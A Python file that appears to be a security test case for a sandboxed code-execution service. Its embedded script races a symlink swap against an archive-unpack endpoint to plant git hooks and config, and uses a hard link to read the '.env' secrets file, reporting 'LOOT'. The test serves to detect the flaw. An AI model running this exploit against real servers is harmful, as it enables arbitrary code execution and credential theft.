# SPDX-License-Identifier: Apache-2.0
"""An archive is sent to a link, which becomes a folder while the server unpacks where it led to"""

from box import ENV_SECRET, WITH_DOORS, Box, Mode, at_doors

BREAKS = ("docs/files.md", "Code in a cell that swaps folders for links meanwhile gains nothing")

SCRIPT = """
PAD = ("pad", bytes(1 << 17))
put = [door for door in doors(EXECUTE) if door.name == "archives"][0].acts["write into"]
def unpack(link, *members):
    cell(f"import os; os.path.islink('d') and os.unlink('d'); os.path.isdir('d') and os.rename('d', 'd-' + os.urandom(4).hex()); os.symlink({link!r}, 'd')")
    def swap():
        cell("import os; os.unlink('d'); os.mkdir('d'); os.makedirs('d/hooks')")
    body = archive(PAD, *members)
    return ask(API, "PUT", "/v1/tar/d", body, {"Authorization": "Bearer " + EXECUTE}, swap)
first = unpack(".git", ("hooks/post-checkout", b"planted"), ("config", b"planted"))
second = unpack(".", hard_link("plain.txt", ".env"))
print("answered", first.status, second.status)
for name in (".git/hooks/post-checkout", ".git/config"):
    if os.path.lexists(name) and b"planted" in open(name, "rb").read(): print("LOOT", name)
print("LOOT", cell("import os; print(os.path.exists('plain.txt') and open('plain.txt').read())"))
"""


def box_for(mode: Mode) -> Box:
    return Box(mode, words=WITH_DOORS)


def attack(box: Box) -> str:
    box.run()
    told = at_doors(box, SCRIPT)
    own = "" if box.mode.sandboxed else "a cell reads .env without a sandbox"
    kept = [line for line in told.splitlines() if "LOOT ." in line]
    return "; ".join(kept) or (told if ENV_SECRET in told and not own else "")
